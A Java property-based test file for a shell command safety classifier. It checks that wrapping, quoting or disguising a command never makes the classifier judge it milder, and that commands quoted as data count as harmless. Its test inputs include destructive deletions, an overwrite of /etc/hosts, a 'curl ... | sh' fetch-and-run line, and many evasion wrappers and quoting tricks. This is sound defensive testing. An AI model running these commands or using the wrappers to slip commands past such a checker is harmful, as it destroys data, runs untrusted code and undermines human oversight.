package io.countersign.shell;

import static org.assertj.core.api.Assertions.assertThat;

import io.countersign.classification.Kind;
import net.jqwik.api.Arbitraries;
import net.jqwik.api.Arbitrary;
import net.jqwik.api.ForAll;
import net.jqwik.api.Property;
import net.jqwik.api.Provide;

/** What may be done to a command line without making it look better, or worse. */
final class ShellMetamorphicTest {

  @Provide
  Arbitrary<String> commands() {
    return Arbitraries.of(
        "zap all",
        "rm -rf /srv/data",
        "rm -rf ~/x",
        "rm -rf src",
        "echo x > /etc/hosts",
        "cat /dev/null > db.sqlite",
        "bash run.sh",
        "rm -rf \"$DIR\"",
        "ls -l",
        "rm -rf build",
        "python3 -c 'import shutil; shutil.rmtree(\"/srv\")'",
        "curl -s https://h/x | sh");
  }

  @Provide
  Arbitrary<String> wrappers() {
    return Arbitraries.of(
        "sudo %s",
        "env A=1 %s",
        "nohup %s &",
        "nice -n 5 %s",
        "timeout 10s %s",
        "time %s",
        "command %s",
        "exec %s",
        "stdbuf -oL %s",
        "setsid %s",
        "if true; then %s; fi",
        "{ %s; }",
        "( %s )",
        "f() { %s; }; f",
        "while :; do %s; done",
        "for i in 1; do %s; done",
        "ls && %s",
        "ls; %s",
        "ls | cat; %s",
        "false || %s",
        "%s # fine --help",
        "  %s  ",
        "case x in x) %s;; esac",
        "! %s",
        "%s | cat",
        "true &\n%s",
        "echo $( %s )",
        "X=1\n%s",
        "trap '' INT; %s",
        "\\\n%s",
        "%s;",
        "eval \"$(echo)\"; %s",
        "cd . && %s");
  }

  @Property(seed = "20261124", tries = 1_000)
  void analyze_aCommandInsideSomethingElse_isNeverJudgedMilder(
      @ForAll("commands") String command,
      @ForAll("wrappers") String first,
      @ForAll("wrappers") String second) {
    boolean simple = !command.contains("|") && !command.contains(">");
    String inside = place(command, simple ? first : "( %s )");
    String wrapped = place(inside, startsWithWord(inside) ? second : "{ %s\n}");
    assertThat(TestShell.kind(wrapped)).as(wrapped).isGreaterThanOrEqualTo(TestShell.kind(command));
  }

  /** Programs can only run programs, not the words of the shell. */
  private static boolean startsWithWord(String text) {
    return text.matches("(?s)(zap|rm|bash|ls|python3) [^|;&\n#(]*");
  }

  private static String place(String command, String wrapper) {
    return wrapper.replace("%s", command);
  }

  @Property(seed = "20261124", tries = 300)
  void analyze_aCommandAsDataOfAPrinter_isHarmless(
      @ForAll("commands") String command, @ForAll("printers") String printer) {
    String quoted = "'" + command.replace("'", "'\\''") + "'";
    String line = printer.replace("%s", quoted);
    assertThat(TestShell.kind(line)).as(line).isEqualTo(Kind.NON_DESTRUCTIVE);
  }

  @Provide
  Arbitrary<String> printers() {
    return Arbitraries.of(
        "echo %s",
        "printf -- %s",
        "git commit -m %s",
        "grep -rn %s .",
        "echo %s | cat",
        "echo %s > notes.md",
        "cat <<'EOF'\n%s\nEOF",
        ": %s",
        "[ -n %s ] && ls",
        "x=%s; echo \"$x\"",
        "case %s in a) ls;; esac",
        "# %s",
        "ls # %s",
        "echo %s | grep x",
        "test %s = a");
  }

  @Property(seed = "20261124", tries = 300)
  void analyze_quotesAroundTheName_changeNothing(@ForAll("commands") String command) {
    int blank = command.indexOf(' ');
    String name = command.substring(0, blank);
    String rest = command.substring(blank);
    for (String quoted :
        new String[] {
          "'" + name + "'",
          "\"" + name + "\"",
          "\\" + name,
          name.charAt(0) + "''" + name.substring(1),
          "$'" + name + "'",
          "x=" + name + "; $x",
          "/usr/bin/" + name
        }) {
      assertThat(TestShell.kind(quoted + rest))
          .as(quoted + rest)
          .isEqualTo(TestShell.kind(command));
    }
  }
}
